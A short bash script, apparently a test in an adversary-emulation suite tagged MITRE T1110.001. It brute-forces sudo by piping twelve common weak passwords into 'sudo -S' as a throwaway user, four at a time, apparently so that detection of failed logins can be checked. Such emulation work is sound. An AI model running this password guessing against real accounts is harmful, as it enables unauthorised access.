#!/bin/bash
# SPDX-License-Identifier: MIT
# attack: T1110.001
# tactic: credential-access
# what: sudo -S password guessing by the throwaway user: 12 wrong passwords, 4 at a time
. "$AT_LIB"
command -v sudo >/dev/null || { echo "no sudo"; exit 77; }
n=0
for pw in 123456 password qwerty letmein admin root toor changeme welcome monkey dragon master; do
	(echo "$pw" | su -s /bin/sh "$AT_VICTIM" -c 'sudo -S -k -p "" true' >/dev/null 2>&1 || true) &
	n=$((n + 1))
	if [ $((n % 4)) = 0 ]; then wait; fi
done
wait
